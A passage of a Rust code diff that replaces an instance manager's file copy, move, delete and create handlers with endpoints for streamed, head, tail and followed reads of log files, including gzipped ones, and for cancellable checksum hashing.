-                elapsed_bytes = process_info.copied_bytes;
-                let progression = elapsed_bytes / threshold;
-                if progression > last_progression {
-                    last_progression = progression;
-                    event_broadcaster.send(Event::new_progression_event_update(
-                        progression_event_id.as_ref().unwrap(),
-                        format!(
-                            "Copying file {}, {}",
-                            process_info.file_name,
-                            format_byte_download(
-                                process_info.copied_bytes,
-                                process_info.total_bytes
-                            )
-                        ),
-                        threshold as f64,
-                    ));
-                }
-            }
-            fs_extra::dir::TransitProcessResult::SkipAll
-        };
-
-        let inner = || -> Result<(), Error> {
-            let tmp_dir =
-                tempfile::tempdir_in(path_to_tmp()).context("Failed to create temporary file")?;
-            let temp_dir_path = tmp_dir.path().to_owned();
-
-            fs_extra::copy_items_with_progress(
-                &paths_source,
-                &temp_dir_path,
-                &fs_extra::dir::CopyOptions::new(),
-                handle,
-            )
-            .context("Failed to copy file(s)")?;
-
-            for temp_path in std::fs::read_dir(temp_dir_path)
-                .context("Failed to read tmp directory")?
-                .filter_map(|entry| entry.ok().map(|v| v.path()))
-            {
-                let dest_path =
-                    resolve_path_conflict(path_dest.join(temp_path.file_name().unwrap()), None);
-                std::fs::rename(temp_path, dest_path).context("Failed to move file")?;
+        use std::io::Read;
+        let mut decoder = flate2::read::GzDecoder::new(file);
+        let mut buf = vec![0; READ_STREAM_CHUNK_SIZE];
+        loop {
+            let chunk = match decoder.read(&mut buf) {
+                Ok(0) => break,
+                Ok(n) => Ok(Bytes::copy_from_slice(&buf[..n])),
+                Err(e) if e.kind() == std::io::ErrorKind::Interrupted => continue,
+                Err(e) => Err(e),
+            };
+            let failed = chunk.is_err();
+            // stops once the client went away
+            if tx.blocking_send(chunk).is_err() || failed {
+                break;
             }
-            Ok(())
-        };
-
-        if let Err(e) = inner() {
-            error!("Error copying file(s): {}", e);
-            event_broadcaster.send(Event::new_progression_event_end(
-                progression_event_id.unwrap(),
-                false,
-                Some(&format!("Error copying file(s): {}", e)),
-                Some(ProgressionEndValue::FSOperationCompleted {
-                    instance_uuid: uuid,
-                    success: false,
-                    message: format!("Error copying file(s): {}", e),
-                }),
-            ));
-        } else {
-            event_broadcaster.send(Event::new_progression_event_end(
-                progression_event_id.unwrap(),
-                true,
-                None::<&str>,
-                Some(ProgressionEndValue::FSOperationCompleted {
-                    instance_uuid: uuid,
-                    success: true,
-                    message: "File(s) copied successfully".to_string(),
-                }),
-            ));
         }
     });
-    Ok(Json(()))
+    Ok(tokio_stream::wrappers::ReceiverStream::new(rx).boxed())
 }
 
-async fn move_instance_file(
+/// Like `read`, but the file is sent with chunked transfer encoding as it is read from disk, for
+/// text files too large to buffer such as long logs
+async fn stream_instance_file(
     axum::extract::State(state): axum::extract::State<AppState>,
-    Path((uuid, base64_relative_path_source, base64_relative_path_dest)): Path<(
-        InstanceUuid,
-        String,
-        String,
-    )>,
+    Path((uuid, base64_relative_path)): Path<(InstanceUuid, String)>,
+    Query(path_query): Query<RelativePathQuery>,
     AuthBearer(token): AuthBearer,
-) -> Result<Json<()>, Error> {
-    let relative_path_source = decode_base64(&base64_relative_path_source)?;
-    let relative_path_dest = decode_base64(&base64_relative_path_dest)?;
-    let requester = state.users_manager.read().await.try_auth_or_err(&token)?;
-    requester.try_action(
-        &UserAction::WriteInstanceFile(uuid.clone()),
-        state.global_settings.lock().await.safe_mode(),
-    )?;
+) -> Result<([(HeaderName, &'static str); 1], StreamBody<ReadStream>), Error> {
+    let relative_path = resolve_relative_path(&base64_relative_path, &path_query)?;
+    let requester = authorize(&state, &token).await?;
+    requester.try_action(&UserAction::ReadInstanceFile(uuid.clone()))?;
+    if uuid.to_string().starts_with("DOCKER-") {
+        return Err(Error {
+            kind: ErrorKind::UnsupportedOperation,
+            source: eyre!("Streamed reads are not supported for docker instances"),
+        });
+    }
     let instance = state.instances.get(&uuid).ok_or_else(|| Error {
         kind: ErrorKind::NotFound,
         source: eyre!("Instance not found"),
     })?;
     let root = instance.path().await;
     drop(instance);
-    let path_source = scoped_join_win_safe(&root, relative_path_source)?;
-    let path_dest = scoped_join_win_safe(&root, relative_path_dest)?;
+    let path = scoped_join_win_safe(root, relative_path)?;
 
-    let relative_path_source = path_source
-        .strip_prefix(&root)
-        .context("Error stripping prefix")?;
-    let relative_path_dest = path_dest
-        .strip_prefix(&root)
-        .context("Error stripping prefix")?;
+    let timeout = state.global_settings.lock().await.fs_read_timeout();
+    let stream = with_fs_timeout(timeout, open_read_stream(&path)).await?;
+    let caused_by = CausedBy::User {
+        user_id: requester.uid.clone(),
+        user_name: requester.username.clone(),
+    };
+    state.event_broadcaster.send(new_fs_event(
+        FSOperation::Read,
+        FSTarget::File(path),
+        caused_by,
+    ));
+    Ok((
+        [(CONTENT_TYPE, "text/plain; charset=utf-8")],
+        StreamBody::new(stream),
+    ))
+}
 
-    if !requester.can_perform_action(&UserAction::WriteInstanceFile(uuid.clone()))
-        && (is_path_protected(&path_source) || is_path_protected(&path_dest))
-    {
-        return Err(Error {
-            kind: ErrorKind::PermissionDenied,
-            source: eyre!("You don't have permission to write to this file"),
-        });
-    }
+// most lines a single head request returns
+const HEAD_MAX_LINES: usize = 10_000;
+// a file without line breaks would otherwise be read whole
+const HEAD_MAX_BYTES: u64 = 4 * 1024 * 1024;
 
-    // if the destination is a subdirectory of the source, we reject the request
-    if path_dest.starts_with(&path_source) {
+fn default_head_lines() -> usize {
+    10
+}
+
+#[derive(Deserialize)]
+struct HeadQuery {
+    #[serde(default = "default_head_lines")]
+    lines: usize,
+}
+
+#[derive(Serialize, TS, Debug, PartialEq, Eq)]
+#[ts(export)]
+struct HeadResponse {
+    /// without their line breaks
+    lines: Vec<String>,
+    /// whether the file goes on past the returned lines
+    truncated: bool,
+    /// whether some bytes weren't valid UTF-8 and were replaced
+    lossy: bool,
+}
+
+/// The decompressed content of a gzipped file, no more than `limit` bytes of it if set
+async fn read_gzipped(path: &std::path::Path, limit: Option<u64>) -> Result<Vec<u8>, Error> {
+    let path = path.to_owned();
+    tokio::task::spawn_blocking(move || -> Result<Vec<u8>, Error> {
+        use std::io::Read;
+        let file = fs::File::open(&path).context("Failed to open file")?;
+        let decoder = flate2::read::GzDecoder::new(file);
+        let mut content = Vec::new();
+        decoder
+            .take(limit.unwrap_or(u64::MAX))
+            .read_to_end(&mut content)
+            .context(format!("Failed to decompress {}", path.display()))?;
+        Ok(content)
+    })
+    .await
+    .context("Failed to decompress file")?
+}
+
+// gzipped files read whole are decompressed in memory, past this they have to be downloaded
+const READ_GZIPPED_MAX_SIZE: u64 = 64 * 1024 * 1024;
+
+/// The whole decompressed content of a gzipped file, refused if it is more than `max_size`
+async fn read_gzipped_capped(path: &std::path::Path, max_size: u64) -> Result<Vec<u8>, Error> {
+    // a byte past the limit tells if it goes on
+    let content = read_gzipped(path, Some(max_size + 1)).await?;
+    if content.len() as u64 > max_size {
         return Err(Error {
             kind: ErrorKind::BadRequest,
-            source: eyre!("Destination is a subdirectory of the source"),
+            source: eyre!(
+                "File decompresses to more than {}, download it instead",
+                format_byte(max_size)
+            ),
         });
     }
+    Ok(content)
+}
 
-    let path_dest = resolve_path_conflict(path_dest.to_owned(), None);
+/// Decompress a gzipped file to `destination`
+async fn gunzip_file(source: &std::path::Path, destination: &std::path::Path) -> Result<(), Error> {
+    let (source, destination) = (source.to_owned(), destination.to_owned());
+    tokio::task::spawn_blocking(move || -> Result<(), Error> {
+        let file = fs::File::open(&source).context("Failed to open file")?;
+        let mut decoder = flate2::read::GzDecoder::new(file);
+        let mut decompressed =
+            fs::File::create(&destination).context("Failed to create decompressed file")?;
+        std::io::copy(&mut decoder, &mut decompressed)
+            .context(format!("Failed to decompress {}", source.display()))?;
+        Ok(())
+    })
+    .await
+    .context("Failed to decompress file")?
+}
 
-    tokio::fs::rename(&path_source, &path_dest)
+/// The first `line_count` lines of a file, reading no further than needed and never more than
+/// `max_bytes`. A gzipped file is read decompressed
+async fn read_head(
+    path: &std::path::Path,
+    line_count: usize,
+    max_bytes: u64,
+) -> Result<HeadResponse, Error> {
+    if is_gzipped(path) {
+        // the decompressed size isn't known upfront, a byte past the limit tells if it goes on
+        let content = read_gzipped(path, Some(max_bytes + 1)).await?;
+        let len = content.len() as u64;
+        return read_head_from(std::io::Cursor::new(content), len, line_count, max_bytes).await;
+    }
+    let file = tokio::fs::File::open(path)
         .await
-        .context(format!(
-            "Error moving file from {} to {}",
-            relative_path_source.display(),
-            relative_path_dest.display()
-        ))?;
+        .context("Failed to open file")?;
+    let len = file
+        .metadata()
+        .await
+        .context("Failed to read file metadata")?
+        .len();
+    read_head_from(file, len, line_count, max_bytes).await
+}
 
-    let caused_by = CausedBy::User {
-        user_id: requester.uid,
-        user_name: requester.username,
+async fn read_head_from(
+    content: impl tokio::io::AsyncRead + Unpin,
+    len: u64,
+    line_count: usize,
+    max_bytes: u64,
+) -> Result<HeadResponse, Error> {
+    let cut_by_limit = len > max_bytes;
+    let mut reader = tokio::io::BufReader::new(content.take(max_bytes));
+    let mut response = HeadResponse {
+        lines: Vec::new(),
+        truncated: false,
+        lossy: false,
     };
-
-    state.event_broadcaster.send(new_fs_event(
-        FSOperation::Move {
-            source: path_source.clone(),
-        },
-        FSTarget::File(path_source),
-        caused_by,
-    ));
-
-    Ok(Json(()))
+    let mut line = Vec::new();
+    while response.lines.len() < line_count {
+        line.clear();
+        if reader
+            .read_until(b'\n', &mut line)
+            .await
+            .context("Failed to read file")?
+            == 0
+        {
+            return Ok(response);
+        }
+        let ends_with_break = line.ends_with(b"\n");
+        if ends_with_break {
+            line.pop();
+            if line.ends_with(b"\r") {
+                line.pop();
+            }
+        }
+        let decoded = String::from_utf8_lossy(&line);
+        response.lossy |= matches!(decoded, std::borrow::Cow::Owned(_));
+        response.lines.push(decoded.into_owned());
+        if !ends_with_break {
+            // the last line of the file, or one cut by the byte limit
+            response.truncated = cut_by_limit;
+            return Ok(response);
+        }
+    }
+    response.truncated = !reader
+        .fill_buf()
+        .await
+        .context("Failed to read file")?
+        .is_empty()
+        || (reader.get_ref().limit() == 0 && cut_by_limit);
+    Ok(response)
 }
 
-async fn remove_instance_file(
+async fn read_instance_file_head(
     axum::extract::State(state): axum::extract::State<AppState>,
     Path((uuid, base64_relative_path)): Path<(InstanceUuid, String)>,
+    Query(path_query): Query<RelativePathQuery>,
+    Query(head_query): Query<HeadQuery>,
     AuthBearer(token): AuthBearer,
-) -> Result<Json<()>, Error> {
-    let relative_path = decode_base64(&base64_relative_path)?;
-    let requester = state.users_manager.read().await.try_auth_or_err(&token)?;
-    requester.try_action(
-        &UserAction::WriteInstanceFile(uuid.clone()),
-        state.global_settings.lock().await.safe_mode(),
-    )?;
+) -> Result<Json<HeadResponse>, Error> {
+    let relative_path = resolve_relative_path(&base64_relative_path, &path_query)?;
+    let requester = authorize(&state, &token).await?;
+    requester.try_action(&UserAction::ReadInstanceFile(uuid.clone()))?;
+    if head_query.lines > HEAD_MAX_LINES {
+        return Err(Error {
+            kind: ErrorKind::BadRequest,
+            source: eyre!("At most {HEAD_MAX_LINES} lines can be read at once"),
+        });
+    }
     let instance = state.instances.get(&uuid).ok_or_else(|| Error {
         kind: ErrorKind::NotFound,
         source: eyre!("Instance not found"),
@@ -491,576 +1026,7380 @@ async fn remove_instance_file(
     let root = instance.path().await;
     drop(instance);
     let path = scoped_join_win_safe(root, relative_path)?;
-    // if target has a protected extension, or no extension, deny
-    if !requester.can_perform_action(&UserAction::WriteGlobalFile) && is_path_protected(&path) {
-        return Err(Error {
-            kind: ErrorKind::PermissionDenied,
-            source: eyre!("File extension is protected"),
-        });
-    }
-
-    crate::util::fs::remove_file(&path).await?;
 
+    let ret = read_head(&path, head_query.lines, HEAD_MAX_BYTES).await?;
     let caused_by = CausedBy::User {
-        user_id: requester.uid,
-        user_name: requester.username,
+        user_id: requester.uid.clone(),
+        user_name: requester.username.clone(),
     };
     state.event_broadcaster.send(new_fs_event(
-        FSOperation::Delete,
+        FSOperation::Read,
         FSTarget::File(path),
         caused_by,
     ));
-    Ok(Json(()))
+    Ok(Json(ret))
 }
 
-async fn remove_instance_dir(
-    axum::extract::State(state): axum::extract::State<AppState>,
-    Path((uuid, base64_relative_path)): Path<(InstanceUuid, String)>,
-    AuthBearer(token): AuthBearer,
-) -> Result<Json<()>, Error> {
-    let relative_path = decode_base64(&base64_relative_path)?;
-    let requester = state.users_manager.read().await.try_auth_or_err(&token)?;
-    requester.try_action(
-        &UserAction::WriteInstanceFile(uuid.clone()),
-        state.global_settings.lock().await.safe_mode(),
-    )?;
-    let instance = state.instances.get(&uuid).ok_or_else(|| Error {
-        kind: ErrorKind::NotFound,
-        source: eyre!("Instance not found"),
-    })?;
-    let root = instance.path().await;
-    drop(instance);
-    let path = scoped_join_win_safe(&root, relative_path)?;
-    if path == root {
+// most lines a single tail request returns
+const TAIL_MAX_LINES: usize = 10_000;
+// how often a followed file is checked for appended lines
+const TAIL_FOLLOW_INTERVAL: std::time::Duration = std::time::Duration::from_millis(500);
+// a followed file writing this much without a line break has it sent as a line anyway
+const TAIL_FOLLOW_MAX_LINE_BYTES: usize = 1024 * 1024;
+
+fn default_tail_lines() -> usize {
+    200
+}
+
+#[derive(Deserialize)]
+struct TailQuery {
+    #[serde(default = "default_tail_lines")]
+    lines: usize,
+}
+
+fn check_tail_lines(lines: usize) -> Result<(), Error> {
+    if lines > TAIL_MAX_LINES {
         return Err(Error {
-            kind: ErrorKind::PermissionDenied,
-            source: eyre!("Cannot delete instance root"),
+            kind: ErrorKind::BadRequest,
+            source: eyre!("At most {TAIL_MAX_LINES} lines can be read at once"),
         });
     }
-    // if target has a protected extension, or no extension, deny
-    if !requester.can_perform_action(&UserAction::WriteGlobalFile) && is_path_protected(&path) {
-        return Err(Error {
-            kind: ErrorKind::PermissionDenied,
-            source: eyre!("File extension is protected"),
-        });
+    Ok(())
+}
+
+/// The last `line_count` lines of a file, read from its end, and the length of the file they were
+/// read up to. A gzipped file can't be read from its end, it is decompressed whole and refused
+/// past `READ_GZIPPED_MAX_SIZE`
+async fn read_tail(path: &std::path::Path, line_count: usize) -> Result<(Vec<String>, u64), Error> {
+    match tokio::fs::metadata(path).await {
+        Ok(metadata) if metadata.is_dir() => {
+            return Err(Error {
+                kind: ErrorKind::BadRequest,
+                source: eyre!("Path is a directory"),
+            })
+        }
+        Ok(_) => {}
+        Err(e) if e.kind() == std::io::ErrorKind::NotFound => {
+            return Err(Error {
+                kind: ErrorKind::NotFound,
+                source: eyre!("File not found"),
+            })
+        }
+        Err(e) => return Err(e).context("Failed to read file metadata")?,
+    }
+    if is_gzipped(path) {
+        let content = read_gzipped_capped(path, READ_GZIPPED_MAX_SIZE).await?;
+        let len = content.len() as u64;
+        let content = String::from_utf8_lossy(&content);
+        let lines: Vec<&str> = content.lines().collect();
+        return Ok((
+            lines[lines.len().saturating_sub(line_count)..]
+                .iter()
+                .map(|line| line.to_string())
+                .collect(),
+            len,
+        ));
     }
+    let path = path.to_owned();
+    tokio::task::spawn_blocking(move || tail_lines_and_len(&path, line_count))
+        .await
+        .context("Failed to spawn blocking task")?
+}
 
-    if requester.can_perform_action(&UserAction::WriteGlobalFile) {
-        tokio::fs::remove_dir_all(&path)
-            .await
-            .context("Failed to remove directory")?;
-    } else {
-        // recursively access all files in the directory and check if they are protected
-        for entry in WalkDir::new(path.clone()) {
-            let entry =
-                entry.context("Failed to walk directory while scanning for protected files")?;
-            if entry.file_type().is_file() && is_path_protected(entry.path()) {
-                return Err(Error {
-                    kind: ErrorKind::PermissionDenied,
-                    source: eyre!("Directory contains protected files"),
-                });
+/// Which file a path is, so a log renamed away and replaced by a new one is told apart from the
+/// one being followed. Only the size is compared where there are no inodes
+#[cfg(unix)]
+fn file_identity(metadata: &std::fs::Metadata) -> Option<u64> {
+    use std::os::unix::fs::MetadataExt;
+    Some(metadata.ino())
+}
+
+#[cfg(not(unix))]
+fn file_identity(_metadata: &std::fs::Metadata) -> Option<u64> {
+    None
+}
+
+/// A file followed for the lines appended to it
+struct FollowedFile {
+    path: PathBuf,
+    // where the last read stopped
+    offset: u64,
+    identity: Option<u64>,
+    // appended after the last line break, sent once the line is ended
+    partial: Vec<u8>,
+}
+
+#[derive(Debug, PartialEq, Eq)]
+struct FollowUpdate {
+    /// the file was rotated since the last read, `lines` are from the start of the new one
+    rotated: bool,
+    lines: Vec<String>,
+}
+
+impl FollowedFile {
+    fn new(path: PathBuf, offset: u64) -> Self {
+        let identity = fs::metadata(&path)
+            .ok()
+            .and_then(|metadata| file_identity(&metadata));
+        Self {
+            path,
+            offset,
+            identity,
+            partial: Vec::new(),
+        }
+    }
+
+    /// The lines ended since the last read. A file replaced by a new one, or truncated in place
+    /// below where the last read stopped, was rotated and is read again from its start. A file
+    /// missing between being renamed away and recreated has nothing new yet
+    fn read_appended(&mut self) -> Result<FollowUpdate, Error> {
+        use std::io::{Read, Seek, SeekFrom};
+        let mut update = FollowUpdate {
+            rotated: false,
+            lines: Vec::new(),
+        };
+        let mut file = match fs::File::open(&self.path) {
+            Ok(file) => file,
+            Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(update),
+            Err(e) => {
+                return Err(e).context(format!("Failed to open {}", self.path.display()))?;
             }
+        };
+        let metadata = file.metadata().context(format!(
+            "Failed to read metadata of {}",
+            self.path.display()
+        ))?;
+        let (len, identity) = (metadata.len(), file_identity(&metadata));
+        if identity != self.identity || len < self.offset {
+            update.rotated = true;
+            self.identity = identity;
+            self.offset = 0;
+            self.partial.clear();
         }
-        tokio::fs::remove_dir_all(&path)
-            .await
-            .context("Failed to remove directory")?;
+        if len == self.offset {
+            return Ok(update);
+        }
+        file.seek(SeekFrom::Start(self.offset))
+            .and_then(|_| {
+                (&mut file)
+                    .take(len - self.offset)
+                    .read_to_end(&mut self.partial)
+            })
+            .context(format!("Failed to read {}", self.path.display()))?;
+        self.offset = len;
+        let ended = match self.partial.iter().rposition(|b| *b == b'\n') {
+            Some(last_break) => last_break + 1,
+            None if self.partial.len() >= TAIL_FOLLOW_MAX_LINE_BYTES => self.partial.len(),
+            None => return Ok(update),
+        };
+        let ended: Vec<u8> = self.partial.drain(..ended).collect();
+        update.lines = String::from_utf8_lossy(&ended)
+            .lines()
+            .map(|line| line.to_string())
+            .collect();
+        Ok(update)
     }
+}
 
-    let caused_by = CausedBy::User {
-        user_id: requester.uid,
-        user_name: requester.username,
-    };
-    state.event_broadcaster.send(new_fs_event(
-        FSOperation::Delete,
-        FSTarget::Directory(path),
-        caused_by,
-    ));
-    Ok(Json(()))
+// carriage returns can't be sent in an event
+fn line_event(line: &str) -> sse::Event {
+    sse::Event::default().data(line.replace('\r', ""))
 }
 
-async fn new_instance_file(
-    axum::extract::State(state): axum::extract::State<AppState>,
-    Path((uuid, base64_relative_path)): Path<(InstanceUuid, String)>,
-    AuthBearer(token): AuthBearer,
-) -> Result<Json<()>, Error> {
-    let relative_path = decode_base64(&base64_relative_path)?;
-    let requester = state.users_manager.read().await.try_auth_or_err(&token)?;
-    requester.try_action(
-        &UserAction::WriteInstanceFile(uuid.clone()),
-        state.global_settings.lock().await.safe_mode(),
-    )?;
-    let instance = state.instances.get(&uuid).ok_or_else(|| Error {
+/// Resolve the file a tail request reads, checking the requester may read it
+async fn resolve_tailed_file(
+    state: &AppState,
+    uuid: &InstanceUuid,
+    base64_relative_path: &str,
+    path_query: &RelativePathQuery,
+    token: &str,
+) -> Result<(PathBuf, CausedBy), Error> {
+    let relative_path = resolve_relative_path(base64_relative_path, path_query)?;
+    let requester = authorize(state, token).await?;
+    requester.try_action(&UserAction::ReadInstanceFile(uuid.clone()))?;
+    let instance = state.instances.get(uuid).ok_or_else(|| Error {
         kind: ErrorKind::NotFound,
         source: eyre!("Instance not found"),
     })?;
     let root = instance.path().await;
     drop(instance);
     let path = scoped_join_win_safe(root, relative_path)?;
-    // if target has a protected extension, or no extension, deny
-    if !requester.can_perform_action(&UserAction::WriteGlobalFile) && is_path_protected(&path) {
-        return Err(Error {
-            kind: ErrorKind::PermissionDenied,
-            source: eyre!("File extension is protected"),
-        });
-    }
-
-    crate::util::fs::create(&path).await?;
-
     let caused_by = CausedBy::User {
-        user_id: requester.uid,
-        user_name: requester.username,
+        user_id: requester.uid.clone(),
+        user_name: requester.username.clone(),
     };
+    Ok((path, caused_by))
+}
+
+/// The last lines of a file, read from its end so long logs aren't read whole
+async fn tail_instance_file(
+    axum::extract::State(state): axum::extract::State<AppState>,
+    Path((uuid, base64_relative_path)): Path<(InstanceUuid, String)>,
+    Query(path_query): Query<RelativePathQuery>,
+    Query(tail_query): Query<TailQuery>,
+    AuthBearer(token): AuthBearer,
+) -> Result<Json<Vec<String>>, Error> {
+    check_tail_lines(tail_query.lines)?;
+    let (path, caused_by) =
+        resolve_tailed_file(&state, &uuid, &base64_relative_path, &path_query, &token).await?;
+    let timeout = state.global_settings.lock().await.fs_read_timeout();
+    let (lines, _) = with_fs_timeout(timeout, read_tail(&path, tail_query.lines)).await?;
     state.event_broadcaster.send(new_fs_event(
-        FSOperation::Create,
+        FSOperation::Read,
         FSTarget::File(path),
         caused_by,
     ));
-    Ok(Json(()))
+    Ok(Json(lines))
 }
 
-async fn get_instance_file_url(
+/// Server-sent events of the last lines of a file, then of each line appended to it as it is
+/// written. A `rotated` event tells the file was rotated, the lines after it are of the new one
+async fn follow_instance_file(
     axum::extract::State(state): axum::extract::State<AppState>,
     Path((uuid, base64_relative_path)): Path<(InstanceUuid, String)>,
+    Query(path_query): Query<RelativePathQuery>,
+    Query(tail_query): Query<TailQuery>,
     AuthBearer(token): AuthBearer,
-) -> Result<String, Error> {
-    let relative_path = decode_base64(&base64_relative_path)?;
-    let requester = state.users_manager.read().await.try_auth_or_err(&token)?;
-    requester.try_action(
-        &UserAction::ReadInstanceFile(uuid.clone()),
-        state.global_settings.lock().await.safe_mode(),
-    )?;
-    let instance = state.instances.get(&uuid).ok_or_else(|| Error {
-        kind: ErrorKind::NotFound,
-        source: eyre!("Instance not found"),
-    })?;
-    let root = instance.path().await;
-    drop(instance);
-    let path = scoped_join_win_safe(&root, &relative_path)?;
+) -> Result<Sse<impl Stream<Item = Result<sse::Event, std::convert::Infallible>>>, Error> {
+    check_tail_lines(tail_query.lines)?;
+    let (path, caused_by) =
+        resolve_tailed_file(&state, &uuid, &base64_relative_path, &path_query, &token).await?;
+    if is_gzipped(&path) {
+        return Err(Error {
+            kind: ErrorKind::BadRequest,
+            source: eyre!("A gzipped file isn't written to anymore, it can't be followed"),
+        });
+    }
+    let timeout = state.global_settings.lock().await.fs_read_timeout();
+    let (lines, len) = with_fs_timeout(timeout, read_tail(&path, tail_query.lines)).await?;
+    state.event_broadcaster.send(new_fs_event(
+        FSOperation::Read,
+        FSTarget::File(path.clone()),
+        caused_by,
+    ));
 
-    let downloadable_file = if fs::metadata(&path)
-        .map_err(|_| Error {
-            kind: ErrorKind::NotFound,
-            source: eyre!("Could not read file metadata"),
-        })?
-        .is_dir()
-    {
-        let (start_event, id) = Event::new_progression_event_start(
-            format!("Zipping {} for download", relative_path),
-            None,
-            None,
-            CausedBy::User {
-                user_id: requester.uid.clone(),
-                user_name: requester.username.clone(),
-            },
-        );
-        let res: Result<DownloadableFile, crate::Error> = async {
-            state.event_broadcaster.send(start_event);
-            let lodestone_tmp = path_to_tmp().clone();
-            let temp_dir =
-                tempfile::tempdir_in(lodestone_tmp).context("Failed to create temporary file")?;
-            let mut temp_file_path: PathBuf = temp_dir.path().into();
-            temp_file_path.push(path.file_name().ok_or_else(|| Error {
-                kind: ErrorKind::NotFound,
-                source: eyre!("Could not read file name"),
-            })?);
-            temp_file_path.set_extension("zip");
-            let files = Vec::from([path.clone()]);
-            zip_files(&files, temp_file_path.clone(), true).context("Failed to zip file")?;
-            Ok(DownloadableFile::ZippedFile((temp_file_path, temp_dir)))
+    let followed = FollowedFile::new(path, len);
+    let appended = futures::stream::unfold(Some(followed), |followed| async move {
+        let mut followed = followed?;
+        tokio::time::sleep(TAIL_FOLLOW_INTERVAL).await;
+        let (followed, update) = tokio::task::spawn_blocking(move || {
+            let update = followed.read_appended();
+            (followed, update)
+        })
+        .await
+        .ok()?;
+        match update {
+            Ok(update) => {
+                let mut events = Vec::new();
+                if update.rotated {
+                    events.push(sse::Event::default().event("rotated").data(""));
+                }
+                events.extend(update.lines.iter().map(|line| line_event(line)));
+                Some((events, Some(followed)))
+            }
+            // the error is sent before the stream ends
+            Err(e) => Some((
+                vec![sse::Event::default()
+                    .event("error")
+                    .data(e.source.to_string().replace(['\r', '\n'], " "))],
+                None,
+            )),
         }
-        .await;
-        if let Err(e) = res {
-            let end_event = Event::new_progression_event_end(id, false, Some(e.to_string()), None);
-            state.event_broadcaster.send(end_event);
-            return Err(e);
+    })
+    .flat_map(futures::stream::iter);
+    let stream = futures::stream::iter(
+        lines
+            .iter()
+            .map(|line| line_event(line))
+            .collect::<Vec<_>>(),
+    )
+    .chain(appended)
+    .map(Ok);
+    Ok(Sse::new(stream).keep_alive(KeepAlive::default()))
+}
+
+#[derive(Deserialize, Serialize, TS, Debug, Clone, Copy, PartialEq, Eq, Default)]
+#[serde(rename_all = "lowercase")]
+#[ts(export)]
+pub enum HashAlgorithm {
+    Md5,
+    Sha1,
+    #[default]
+    Sha256,
+}
+
+#[derive(Deserialize, Debug, Default)]
+struct HashQuery {
+    #[serde(default)]
+    algorithm: HashAlgorithm,
+}
+
+// files above this are hashed as a progression the client can follow and cancel, smaller files
+// are hashed before the request returns without any event
+const HASH_PROGRESS_THRESHOLD: u64 = 64 * 1024 * 1024;
+
+const HASH_CHUNK_SIZE: usize = 1024 * 1024;
+
+fn hash_cancelled() -> Error {
+    Error {
+        kind: ErrorKind::Conflict,
+        source: eyre!("Checksum cancelled"),
+    }
+}
+
+fn digest_reader<D: sha2::Digest>(
+    mut reader: impl std::io::Read,
+    cancel: &CancellationToken,
+    on_chunk: &mut dyn FnMut(u64),
+) -> Result<String, Error> {
+    let mut hasher = D::new();
+    let mut buf = vec![0; HASH_CHUNK_SIZE];
+    loop {
+        if cancel.is_cancelled() {
+            return Err(hash_cancelled());
         }
-        let end_event = Event::new_progression_event_end(id, true, Some("Zipping complete"), None);
-        state.event_broadcaster.send(end_event);
-        res.unwrap()
-    } else {
-        DownloadableFile::NormalFile(path.clone())
-    };
+        let read = match reader.read(&mut buf) {
+            Ok(0) => break,
+            Ok(read) => read,
+            Err(e) if e.kind() == std::io::ErrorKind::Interrupted => continue,
+            Err(e) => return Err(e).context("Failed to read file").map_err(Into::into),
+        };
+        hasher.update(&buf[..read]);
+        on_chunk(read as u64);
+    }
+    Ok(hex::encode(hasher.finalize()))
+}
 
-    let key = rand_alphanumeric(32);
+/// Hex digest of everything `reader` yields, `cancel` is checked between chunks and `on_chunk`
+/// is called with the size of each chunk hashed
+fn hash_reader(
+    reader: impl std::io::Read,
+    algorithm: HashAlgorithm,
+    cancel: &CancellationToken,
+    on_chunk: &mut dyn FnMut(u64),
+) -> Result<String, Error> {
+    match algorithm {
+        HashAlgorithm::Md5 => digest_reader::<md5::Md5>(reader, cancel, on_chunk),
+        HashAlgorithm::Sha1 => digest_reader::<sha1::Sha1>(reader, cancel, on_chunk),
+        HashAlgorithm::Sha256 => digest_reader::<sha2::Sha256>(reader, cancel, on_chunk),
+    }
+}
 
-    state
-        .download_urls
-        .lock()
-        .await
-        .insert(key.clone(), downloadable_file);
+async fn hash_file(
+    path: PathBuf,
+    algorithm: HashAlgorithm,
+    cancel: CancellationToken,
+    mut on_chunk: impl FnMut(u64) + Send + 'static,
+) -> Result<String, Error> {
+    tokio::task::spawn_blocking(move || {
+        let file = std::fs::File::open(&path)
+            .context(format!("Failed to open file {}", path.display()))?;
+        hash_reader(
+            std::io::BufReader::new(file),
+            algorithm,
+            &cancel,
+            &mut on_chunk,
+        )
+    })
+    .await
+    .context("Failed to hash file")?
+}
 
-    let caused_by = CausedBy::User {
-        user_id: requester.uid,
-        user_name: requester.username,
+/// Hash a file as a progression registered in `sessions`, so it can be cancelled through the
+/// fs operation cancel endpoint with the event id of its progression
+#[allow(clippy::too_many_arguments)]
+async fn hash_and_report(
+    event_broadcaster: EventBroadcaster,
+    sessions: &UploadSessions,
+    path: PathBuf,
+    size: u64,
+    algorithm: HashAlgorithm,
+    uuid: InstanceUuid,
+    user_id: UserId,
+    caused_by: CausedBy,
+) -> Result<String, Error> {
+    let name = path
+        .file_name()
+        .map(|name| name.to_string_lossy().to_string())
+        .unwrap_or_default();
+    let (progression_start_event, event_id) = Event::new_progression_event_start(
+        format!("Computing checksum of {name}"),
+        Some(size as f64),
+        None,
+        caused_by.clone(),
+    );
+    let session = sessions.register(event_id.inner(), uuid.clone(), user_id);
+    event_broadcaster.send(progression_start_event);
+
+    let on_chunk = {
+        let event_broadcaster = event_broadcaster.clone();
+        let event_id = event_id.clone();
+        let caused_by = caused_by.clone();
+        let mut throttle = ProgressThrottle::new(Some(size));
+        let mut hashed = 0_u64;
+        move |chunk_len: u64| {
+            hashed += chunk_len;
+            if let Some(progressed) = throttle.report(hashed) {
+                event_broadcaster.send(
+                    Event::new_progression_event_update(
+                        &event_id,
+                        format!(
+                            "Computing checksum of {name}, {}",
+                            format_byte_download(hashed, size)
+                        ),
+                        progressed as f64,
+                    )
+                    .with_caused_by(caused_by.clone()),
+                );
+            }
+        }
     };
-    state.event_broadcaster.send(new_fs_event(
-        FSOperation::Download,
-        FSTarget::File(path),
-        caused_by,
-    ));
-    Ok(key)
+    let cancel = session.cancel.clone();
+    let hashing = tokio::spawn(in_current_request(async move {
+        // registered until the hash is done, whether the request still waits for it or not
+        let session = session;
+        let ret = hash_file(path, algorithm, session.cancel.clone(), on_chunk).await;
+        let message = match &ret {
